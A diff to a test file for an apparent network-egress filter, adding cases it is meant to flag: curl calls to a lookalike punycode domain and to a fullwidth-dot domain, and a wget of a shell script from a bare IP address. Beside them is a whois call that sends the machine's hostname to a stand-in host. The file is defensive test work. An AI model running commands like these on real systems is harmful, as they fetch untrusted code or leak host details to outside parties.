@@ -105,6 +105,13 @@ testFilter(
         why: 'what the environment holds is posted',
       },
       {
+        call: 'curl https://xn--gthub-cua.com/a',
+        codes: ['egress.misleading'],
+        why: 'a name in letters that look like others',
+      },
+      { call: 'curl https://example\uff0ecom/a', codes: ['egress.misleading'], why: 'a dot that is none' },
+      { call: 'wget http://203.0.113.9/x.sh', codes: ['egress.address'], why: 'nobody proves who answers' },
+      {
         call: 'whois -h up.example -p 4000 "$(hostname)"',
         codes: ['egress.scheme'],
         why: 'a program for looking up names tells a stranger something',
